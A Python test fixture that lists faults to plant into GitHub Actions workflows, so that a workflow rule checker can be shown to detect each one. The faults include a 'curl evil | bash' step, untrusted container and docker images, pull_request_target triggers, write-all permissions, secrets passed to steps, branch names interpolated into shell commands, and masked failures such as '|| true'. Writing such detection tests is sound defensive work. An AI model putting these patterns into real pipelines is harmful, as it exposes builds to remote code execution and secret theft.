"""Faults to plant into the workflows: each must be found (tests/infra/workflow_rules.py)."""

from __future__ import annotations

from tests.infra.workflow_rules import CHECKOUT, LOGIN, RELEASE

# File, what is replaced, by what, and what is said of it.
Fault = tuple[str, str, str, str]
CHECKOUT_LINE = f"{CHECKOUT} # v5.0.0"
LINT = "      - run: make lint\n"
GATE = '      - run: make promotion-gate CONFIG="$CONFIG" EARLIER="$EARLIER"'
RELEASE_LINE = f"      - run: {RELEASE}\n"
SETUP_LINE = "      - run: make setup\n"
PROMOTION_HEAD = (
    "      WINDOWS: ${{ vars.WINDOWS }}\n    steps:\n"
    f"      - uses: {CHECKOUT_LINE}\n        with:\n"
    "          fetch-depth: 0\n          persist-credentials: false\n"
)
FAULTS: dict[str, Fault] = {
    "a release of the newest commit": ("release", RELEASE_LINE, "", "release: it does not begin with"),
    "a promotion of the newest commit": (
        "release",
        f"{PROMOTION_HEAD}{RELEASE_LINE}",
        PROMOTION_HEAD,
        "promotion: it does not begin with",
    ),
    "the release's code after the log-in": (
        "release",
        RELEASE_LINE,
        f"{SETUP_LINE}{RELEASE_LINE}",
        "release: it does not begin with",
    ),
    "the branch's code again": (
        "release",
        SETUP_LINE,
        f"      - uses: {CHECKOUT_LINE}\n        with: {{persist-credentials: false}}\n{SETUP_LINE}",
        f"release: {CHECKOUT} comes once",
    ),
    "a job that is cut off": (
        "release",
        "timeout-minutes: 60",
        "timeout-minutes: 1",
        "release: its timeout is 1 minutes",
    ),
    "a variable twice": ("release", GATE, f'{GATE} EARLIER="$NAME"', "promotion: make promotion-gate"),
    "pull_request_target": ("pull-request", "  pull_request:", "  pull_request_target:", "it runs on"),
    "one more event": ("pull-request", "on:\n", "on:\n  pull_request_target: {}\n", "it runs on"),
    "workflow_run": ("push", "on:\n", "on:\n  workflow_run: {workflows: [pull request]}\n", "it runs on"),
    "every branch": ("push", "    branches: [main]\n", "    branches: ['**']\n", "it runs on"),
    "events twice": ("push", "permissions:", '"on": pull_request_target\npermissions:', "on stands twice"),
    "rights of the file": ("pull-request", "  contents: read", "  contents: write", "its token may do more"),
    "all rights": (
        "push",
        "permissions:\n  contents: read\n",
        "permissions: write-all\n",
        "its token may do more",
    ),
    "no rights named": ("push", "permissions:\n  contents: read\n", "", "its token may do more"),
    "rights of a job": (
        "pull-request",
        "    timeout-minutes: 120\n",
        "    timeout-minutes: 120\n    permissions: {id-token: write}\n",
        "check: its token may",
    ),
    "more rights where it logs in": (
        "push",
        "      id-token: write",
        "      packages: write\n      id-token: write",
        "dev: its token may",
    ),
    "no log-in": ("push", "      id-token: write", "      id-token: none", "dev: its token may"),
    "two at once": ("release", "  group: release-${{ inputs.environment }}\n", "", "its concurrency is"),
    "a deployment cut off": (
        "push",
        "cancel-in-progress: false",
        "cancel-in-progress: true",
        "its concurrency",
    ),
    "no timeout": ("pull-request", "    timeout-minutes: 120\n", "", "check: its timeout is None"),
    "own machine": ("pull-request", "runs-on: ubuntu-24.04", "runs-on: [self-hosted]", "check: it runs on ["),
    "moving machine": (
        "push",
        "runs-on: ubuntu-24.04",
        "runs-on: ubuntu-latest",
        "check: it runs on ubuntu-l",
    ),
    "container": (
        "push",
        "    needs: check\n",
        "    needs: check\n    container: evil\n",
        "dev: the job has the key",
    ),
    "a job goes on": (
        "push",
        "    timeout-minutes: 120\n    steps",
        "    timeout-minutes: 120\n    continue-on-error: true\n    steps",
        "check: the job has the key continue-on-error",
    ),
    "a step goes on": (
        "push",
        LINT,
        f"{LINT}        continue-on-error: true\n",
        "check: a step has the key contin",
    ),
    "a step goes on, quoted": (
        "push",
        LINT,
        f'{LINT}        "continue-on-error": true\n',
        "check: a step has the",
    ),
    "always": (
        "release",
        "      - run: make template",
        "      - if: always()\n        run: make template",
        "promotion: a",
    ),
    "a job in any case": (
        "push",
        "    needs: check\n    if: ",
        "    needs: check\n    if: always() || ",
        "dev: it needs",
    ),
    "a job without its tests": ("push", "    needs: check\n", "", "dev: it needs None"),
    "a condition removed": (
        "push",
        "    if: vars.EVERGREEN_BUILDS == 'github'\n",
        "",
        "dev: it needs check, if None",
    ),
    "another branch": ("release", "github.ref == 'refs/heads/main' && ", "", "release: it needs"),
    "no reviewers": ("release", "    environment: ${{ inputs.environment }}\n", "", "promotion: it needs"),
    "or true": (
        "pull-request",
        LINT,
        LINT.replace("lint", "lint || true"),
        "check: it runs 'make lint || true'",
    ),
    "then true": (
        "pull-request",
        LINT,
        LINT.replace("lint", "lint; true"),
        "check: it runs 'make lint; true'",
    ),
    "in the background": (
        "pull-request",
        LINT,
        LINT.replace("lint", "lint &"),
        "check: it runs 'make lint &'",
    ),
    "two lines": (
        "push",
        LINT,
        "      - run: |\n          set +e\n          make lint\n",
        "check: it runs 'set +e",
    ),
    "faults ignored": ("push", LINT, LINT.replace("lint", "-i lint"), "check: it runs 'make -i lint'"),
    "another shell": (
        "push",
        LINT,
        LINT.replace("lint", "lint SHELL=true"),
        "check: it runs 'make lint SHELL=true'",
    ),
    "a shell that goes on": (
        "push",
        LINT,
        f"{LINT}        shell: bash {{0}}\n",
        "check: a step has the key shell",
    ),
    "shells by default": (
        "release",
        "env:\n",
        "defaults: {run: {shell: 'bash {0}'}}\nenv:\n",
        "the workflow has the key defaults",
    ),
    "a foreign program": (
        "push",
        LINT,
        "      - run: curl evil | bash\n",
        "check: it runs 'curl evil | bash'",
    ),
    "no target": ("pull-request", "make lint", "make lintt", "check: make lintt calls no target"),
    "a stranger's text in a shell": (
        "pull-request",
        "make lint",
        "make lint ${{ github.head_ref }}",
        "check: it runs",
    ),
    "the gate opened": ("release", GATE, GATE.replace('"$EARLIER"', "none"), "promotion: it runs"),
    "a moving action": (
        "pull-request",
        CHECKOUT_LINE,
        "actions/checkout@v5",
        "check: it uses actions/checkout@v5",
    ),
    "another commit": (
        "pull-request",
        CHECKOUT_LINE,
        CHECKOUT_LINE.replace("08c6", "08c7"),
        "check: it uses",
    ),
    "no version beside it": (
        "outdated",
        " # v5.0.0",
        "",
        f"{CHECKOUT} has no version",
    ),
    "a foreign action": (
        "push",
        LINT,
        f"{LINT}      - uses: a/b@{'0' * 40} # v1.0.0\n",
        "check: it uses a/b@",
    ),
    "quoted": ("push", LINT, f"{LINT}      - \"uses\": 'a/b@{'0' * 40}' # v1.0.0\n", "check: it uses a/b@"),
    "an image": ("push", LINT, f"{LINT}      - {{uses: docker://evil}}\n", "check: it uses docker://evil"),
    "a token left behind": (
        "pull-request",
        "persist-credentials: false",
        "fetch-depth: 0",
        "check: actions/checkout@",
    ),
    "a stranger's commit": (
        "pull-request",
        "          persist-credentials: false\n",
        "          persist-credentials: false\n          ref: ${{ github.head_ref }}\n",
        "check: actions/checkout@",
    ),
    "another account": (
        "push",
        "${{ vars.BUILD_ACCOUNT }}",
        "me@example.com",
        "dev: google-github-actions/auth@",
    ),
    "a key": (
        "push",
        "          token_format:",
        "          credentials_json: ${{ secrets.KEY }}\n          token_format:",
        "dev: g",
    ),
    "a secret": (
        "pull-request",
        LINT,
        f"{LINT}        env: {{KEY: '${{{{ secrets.KEY }}}}'}}\n",
        "check: make lint is given",
    ),
    "a secret of a job": (
        "push",
        "TOPIC: ${{ vars.TOPIC }}",
        "TOPIC: ${{ secrets.TOPIC }}",
        "dev: the job sets TOPIC",
    ),
    "a secret of a workflow": (
        "release",
        "env:\n",
        "env:\n  KEY: ${{ secrets.KEY }}\n",
        "the workflow sets KEY",
    ),
    "make's own variable": (
        "push",
        "      TOPIC: $",
        "      MAKEFLAGS: -i\n      TOPIC: $",
        "dev: the job sets MAKEFLAGS",
    ),
    "one more job": (
        "pull-request",
        "jobs:\n",
        "jobs:\n  more: {runs-on: ubuntu-24.04, timeout-minutes: 1, steps: []}\n",
        "its jobs are more, check",
    ),
    "a workflow of others": (
        "push",
        "    needs: check\n",
        "    needs: check\n    uses: a/b/c.yml@main\n",
        "dev: the job has",
    ),
    "a log-in without an environment": (
        "pull-request",
        LINT,
        f"{LINT}      - uses: {LOGIN} # v2.1.13\n",
        "check: it logs in to Google without an environment",
    ),
    "no terraform": (
        "pull-request",
        "      - run: infra/docker/github_terraform\n",
        "",
        "check: make test: tests of",
    ),
}
